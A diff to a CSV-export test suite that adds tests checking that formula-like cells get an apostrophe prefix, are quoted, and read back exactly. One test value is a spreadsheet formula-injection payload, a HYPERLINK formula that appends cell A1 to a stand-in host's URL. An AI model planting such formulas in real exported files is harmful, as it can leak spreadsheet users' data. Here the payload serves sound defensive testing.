@@ -176,6 +176,29 @@ describe('CSV export', () => {
     expect(again[0].extra).toEqual({ Source: 'GeoNames', population: 174224 });
   });
 
+  it('defuses cells a spreadsheet would run as formulas, and reads them back exactly', () => {
+    const planted: Entity = {
+      ...RAJNATH, id: '-id', name: '@handle', aliases: ['=alias', 'b'], summary: '=HYPERLINK("https://x.test/?"&A1,"open")',
+      notes: '+1 555', tags: ["'=already", "''-twice"], links: [], updatedAt: '2025-05-06T00:00:00Z',
+    };
+    const tabbed: Entity = { ...planted, id: 'tab', name: '\tTabbed', aliases: [], summary: '\rcr', notes: "'plain", tags: ['x'] };
+    const csv = exportCsv([planted, tabbed]);
+    const lines = csv.split('\r\n');
+    // Every cell that starts with = + - @ (behind any apostrophes) gets one more apostrophe, and
+    // quotes; the start of a cell is what a spreadsheet reads, not the start of each list item.
+    expect(lines[1]).toBe(`"'-id","'@handle","'=alias | b",person,"'=HYPERLINK(""https://x.test/?""&A1,""open"")","'+1 555","''=already | ''-twice",,2025-05-06T00:00:00Z,`);
+    expect(lines[2]).toBe(`tab,"'\tTabbed",,person,"'\rcr",'plain,x,,2025-05-06T00:00:00Z,`);
+    expect(ok(csv)).toEqual([planted, tabbed]);
+    expect(exportCsv(ok(csv))).toBe(csv);
+  });
+
+  it('reads a sheet defused by another tool as the values it stood for', () => {
+    const [e] = ok("name,summary,notes\n'=Corp,'-5 points,'not a formula\n");
+    expect(e.name).toBe('=Corp');
+    expect(e.summary).toBe('-5 points');
+    expect(e.notes).toBe("'not a formula");
+  });
+
   it('writes just the header for no entities, which imports as none', () => {
     expect(ok(exportCsv([]))).toEqual([]);
   });
